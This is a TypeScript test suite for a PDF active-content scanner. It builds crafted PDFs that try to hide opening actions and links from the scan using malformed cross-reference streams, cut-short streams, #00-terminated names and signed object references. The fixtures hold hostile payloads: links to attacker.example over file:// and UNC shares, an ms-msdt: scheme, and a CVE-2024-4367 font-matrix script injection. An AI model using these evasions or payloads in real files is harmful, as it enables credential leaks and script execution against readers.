import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  buildClassicPdf,
  buildPdf,
  handwrittenPages,
  handwrittenPdf,
  incrementalUpdateXrefStream,
  linkAnnotations,
  pageObjects,
} from '../../../fixtures/active-pdf.ts';
import { codes, inspect } from '../helpers.ts';

/**
 * What pdf.js reads that a scan might not (round 11): each way it was tried to hide an action
 * behind, pinned. Each was already refused, or its action found, when tried; these keep it so.
 */

const HEADER = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
const XREF_NUM = 99;
type Row = [type: number, field: number, third: number];

/**
 * Objects written in order, then a cross-reference stream of `index` (its /Index) whose rows
 * `rows` gives from each number's header positions (every definition, in order).
 */
function withXrefStream(objects: string[], index: number[], rows: (at: number[][]) => Row[]): Buffer {
  let text = HEADER;
  const at: number[][] = [];
  for (const object of objects) {
    (at[Number(/^\d+/.exec(object)?.[0])] ??= []).push(text.length);
    text += object;
  }
  const xrefAt = text.length;
  at[XREF_NUM] = [xrefAt];
  const table = rows(at);
  const data = Buffer.alloc(table.length * 7);
  table.forEach(([type, field, third], i) => {
    data.writeUInt8(type, i * 7);
    data.writeUInt32BE(field, i * 7 + 1);
    data.writeUInt16BE(third, i * 7 + 5);
  });
  const dict = `/Type /XRef /Size ${XREF_NUM + 1} /W [1 4 2] /Index [${index.join(' ')}] /Root 1 0 R`;
  return Buffer.concat([
    Buffer.from(`${text}${XREF_NUM} 0 obj\n<< ${dict} /Length ${data.length} >>\nstream\n`, 'latin1'),
    data,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`, 'latin1'),
  ]);
}

const PAGES = handwrittenPages('/OpenAction 6 0 R');
/** Rows 0–3: the free head and the catalog, page tree and page at their first headers. */
const pageRows = (at: number[][]): Row[] => [[0, 0, 65535], ...[1, 2, 3].map((n): Row => [1, at[n]?.[0] ?? 0, 0])];
const GOTO = '6 0 obj\n<< /S /GoTo /D [3 0 R /Fit] >>\nendobj\n';
const URI = '6 0 obj\n<< /S /URI /URI (https://attacker.example/track) >>\nendobj\n';
const pdfCodes = async (file: Buffer) => codes(await inspect(file, 'pdf'));

describe('what pdf.js reads, pinned (round 11)', () => {
  it('refuses a cross-reference stream whose /Index subsections overlap on an opening action, whichever row comes first', async () => {
    const xrefRow = (at: number[][]): Row => [1, at[XREF_NUM]?.[0] ?? 0, 0];
    // Which row of a number a reader keeps within one section is its own; the scan judges both definitions.
    for (const order of [
      [0, 1],
      [1, 0],
    ]) {
      const file = withXrefStream([...PAGES, URI, GOTO], [0, 4, 6, 1, 6, 1, XREF_NUM, 1], (at) => [
        ...pageRows(at),
        ...order.map((k): Row => [1, at[6]?.[k] ?? 0, 0]),
        xrefRow(at),
      ]);
      expect(await pdfCodes(file)).toEqual(['PDF_ACTION', 'PDF_UNREADABLE']);
    }
    // Look-alike: several subsections that do not overlap, an opening GoTo.
    const genuine = withXrefStream([...PAGES, GOTO], [0, 4, 6, 1, XREF_NUM, 1], (at) => [
      ...pageRows(at),
      [1, at[6]?.[0] ?? 0, 0],
      xrefRow(at),
    ]);
    expect(await pdfCodes(genuine)).toEqual([]);
  });

  it('reads a /Length by reference to an integer in an object stream, and what follows the first endstream', async () => {
    const content = (data: string) => `4 0 obj\n<< /Length 8 0 R >>\nstream\n${data}\nendstream\nendobj\n`;
    const inner = '8 0 11';
    const objStm = `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length ${inner.length} >>\nstream\n${inner}\nendstream\nendobj\n`;
    const pages = [
      '1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n',
      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n',
      '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>\nendobj\n',
    ];
    const file = (data: string) =>
      withXrefStream([...pages, content(data), objStm], [0, 5, 8, 2, XREF_NUM, 1], (at) => [
        ...pageRows(at),
        [1, at[4]?.[0] ?? 0, 0],
        [2, 9, 0],
        [1, at[9]?.[0] ?? 0, 0],
        [1, at[XREF_NUM]?.[0] ?? 0, 0],
      ]);
    // Look-alike: the length agrees with the data.
    expect(await pdfCodes(file('0 0 m 1 1 l'))).toEqual([]);
    // An `endstream` inside the data ends it for every reader; what follows is syntax, its link found.
    const hiding = '0 0 m 1 1 l\nendstream\nendobj\n7 0 obj\n<< /S /URI /URI (file://attacker.example/x) >>\nendobj\n';
    expect(await pdfCodes(file(`${hiding}7 0 obj\n<< /Length 1 >>\nstream\nx`))).toEqual(['PDF_ACTION']);
  });

  it('refuses a stream whose endstream is missing or cut short (pdf.js searches on, and accepts `endstrea`)', async () => {
    const action = '6 0 obj\n<< /S /URI /URI (file://attacker.example/x) >>\nendobj\n';
    const cut = (length: string, end: string) => [
      ...PAGES,
      `4 0 obj\n<< /Length ${length} >>\nstream\n0 0 m 1 1 l\n${end}\nendobj\n`,
      action,
      '5 0 obj\n11\nendobj\n',
    ];
    expect(await pdfCodes(handwrittenPdf(cut('5 0 R', '')))).toEqual(['PDF_UNREADABLE']);
    expect(await pdfCodes(handwrittenPdf(cut('11', '')))).toEqual(['PDF_UNREADABLE']);
    // A later stream's endstream: the scan takes the action for data, the table names its header.
    const later = [...cut('5 0 R', 'endstrea'), '7 0 obj\n<< /Length 2 >>\nstream\nxx\nendstream\nendobj\n'];
    expect(await pdfCodes(handwrittenPdf(later))).toEqual(['PDF_UNREADABLE']);
  });

  it('reads a dictionary across a comment that holds `>>`, as pdf.js does', async () => {
    const link = (before: string) =>
      handwrittenPdf([
        ...handwrittenPages(),
        `6 0 obj\n<< /Type /Annot /Subtype /Link ${before}\n/A << /S /URI /URI (\\\\\\\\attacker.example\\\\share) >> >>\nendobj\n`,
      ]);
    expect(await pdfCodes(link('% >> endobj'))).toEqual(['PDF_ACTION']);
    const opening = handwrittenPages('% >> endobj\n/OpenAction << /S /URI /URI (https://attacker.example/) >>');
    expect(await pdfCodes(handwrittenPdf(opening))).toEqual(['PDF_ACTION']);
    // Look-alike: a string holding `%` and `>>` is text.
    expect(await pdfCodes(link('/Contents (100% >> done)'))).toEqual(['PDF_ACTION']);
  });

  it('reads names ended by #00 as a reader that keeps names as C strings does', async () => {
    const action = (a: string) =>
      handwrittenPdf([...handwrittenPages(), `6 0 obj\n<< /Type /Annot /Subtype /Link /A ${a} >>\nendobj\n`]);
    expect(await pdfCodes(action('<< /S /URI#00 /URI#00 (file://attacker.example/x) >>'))).toEqual(['PDF_ACTION']);
    expect(await pdfCodes(action('<< /S /GoToR /F << /F (a.pdf) /UF#00 (file://attacker.example/x) >> >>'))).toEqual([
      'PDF_ACTION',
    ]);
    expect(
      await pdfCodes(handwrittenPdf(handwrittenPages('/URI#00 << /Base#00 (file://attacker.example/) >>'))),
    ).toEqual(['PDF_ACTION']);
  });

  it('judges an object stream whatever its /Extends chain says, a cycle included', async () => {
    const inner = Buffer.from('6 0 << /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) >>', 'latin1');
    const extended = buildPdf(
      [
        ...pageObjects('/OpenAction 6 0 R'),
        { num: 6, body: '<< /S /GoTo /D [3 0 R /Fit] >>' },
        { num: 8, body: '/Type /ObjStm /N 1 /First 4', stream: inner },
      ],
      { packed: [6], encoder: (plain) => ['/Extends 8 0 R /Filter /FlateDecode', deflateSync(plain)] },
    );
    expect(await pdfCodes(extended)).toEqual(['PDF_ACTION']);
    const cycle = buildPdf(
      [
        ...pageObjects(),
        { num: 6, body: '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (file://attacker.example/x) >> >>' },
        { num: 8, body: '/Type /ObjStm /N 1 /First 4 /Extends 9 0 R', stream: Buffer.from('7 0 << >>') },
        { num: 9, body: '/Type /ObjStm /N 1 /First 4 /Extends 8 0 R', stream: Buffer.from('7 0 << >>') },
      ],
      { packed: [6], packing: 'flate' },
    );
    expect(await pdfCodes(cycle)).toEqual(['PDF_ACTION']);
  });
});

/**
 * Round 13: pdf.js makes `n g R` a reference whenever both numbers are integers by value, and the
 * standard counts a signed integer as one: `+9 0 R`, `9.0 0 R`, `9 -0 R` are object 9 to it. The
 * scan read three numbers there, so in an array, where three numbers and a keyword are well-formed,
 * the reference went unfollowed. So did the numbers pdf.js's lexer reads where the scan saw a
 * keyword: `0R` (a number ends at any byte that is not one), `9e0`, `9-`.
 */
describe('references written with a sign or a fraction (round 13)', () => {
  const URI_ACTION = '<< /S /URI /URI (http://attacker.example/opened) >>';

  it('follows an opening /Next list whose reference is signed or fractional, packed and updated', async () => {
    for (const ref of [
      '+9 0 R',
      '9.0 0 R',
      '9 -0 R',
      '9. +0 R',
      '9 0R',
      '9e0 0 R',
      '90e-1 0 R',
      '9- 0 R',
      '+\n9 0 R',
    ]) {
      const opening = `<< /S /GoTo /D [3 0 R /Fit] /Next [${ref}] >>`;
      expect(
        await pdfCodes(buildClassicPdf([...pageObjects(`/OpenAction ${opening}`), { num: 9, body: URI_ACTION }])),
      ).toEqual(['PDF_ACTION']);
      // The opening action packed under ASCIIHex and Flate; the action it names arrives in an update.
      const base = buildPdf([...pageObjects('/OpenAction 6 0 R'), { num: 6, body: opening }], {
        packed: [1, 6],
        packing: 'ahx-flate',
      });
      expect(await pdfCodes(incrementalUpdateXrefStream(base, [{ num: 9, body: URI_ACTION }]))).toEqual(['PDF_ACTION']);
    }
  });

  it('finds a string a font matrix names by a signed reference (CVE-2024-4367)', async () => {
    const font = (ref: string) =>
      buildClassicPdf([
        ...pageObjects().filter((o) => o.num !== 5),
        {
          num: 5,
          body: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [0.001 0 0 0.001 0 ${ref}] /CharProcs << >> /Encoding << /Differences [] >> /FirstChar 0 /LastChar 0 /Widths [0] >>`,
        },
        { num: 6, body: '(0\\); alert\\(1\\))' },
      ]);
    expect(await pdfCodes(font('+6 0 R'))).toEqual(['PDF_SCRIPT']);
    expect(await pdfCodes(font('6.0 0 R'))).toEqual(['PDF_SCRIPT']);
  });

  it('keeps a signed page reference and signed numbers VALID', async () => {
    const file = buildClassicPdf(
      pageObjects('/OpenAction [+3 0 R /XYZ -0 +842 1.5]', '/Annots [6 0 R]').concat({
        num: 6,
        body: '<< /Type /Annot /Subtype /Link /Rect [+0 -0 9.0 9.] /Border [0 0 0] /Dest [3 0.0 R /Fit] >>',
      }),
    );
    expect(await pdfCodes(file)).toEqual([]);
  });

  it('judges a /URI or /Base written as a name, as pdf.js (`/` and the name) and PDFium (the name) read it', async () => {
    const link = (target: string) => buildClassicPdf(linkAnnotations(`<< /S /URI /URI ${target} >>`));
    expect(await pdfCodes(link('/#5C#5Cattacker.example#5Cshare#5Cx.pdf'))).toEqual(['PDF_ACTION']);
    expect(await pdfCodes(link('/#2Fattacker.example#2Fshare#2Fx.pdf'))).toEqual(['PDF_ACTION']);
    expect(await pdfCodes(link('/ms-msdt:#2Fid'))).toEqual(['PDF_ACTION']);
    const byReference = buildClassicPdf([
      ...linkAnnotations('<< /S /URI /URI 30 0 R >>'),
      { num: 30, body: '/file:#2F#2Fattacker.example#2Fshare' },
    ]);
    expect(await pdfCodes(byReference)).toEqual(['PDF_ACTION']);
    expect(await pdfCodes(buildClassicPdf(pageObjects('/URI << /Base /#5Cattacker.example#5Cshare >>')))).toEqual([
      'PDF_ACTION',
    ]);
    // A web address or a relative one written so stays a link the reviewer may click.
    const web = await inspect(link('/www.miit.gov.cn'), 'pdf');
    expect([codes(web), web.warnings.map((w) => w.code)]).toEqual([[], ['EXTERNAL_LINK']]);
    expect(await pdfCodes(link('/docs#2Fa.html'))).toEqual([]);
  });
});
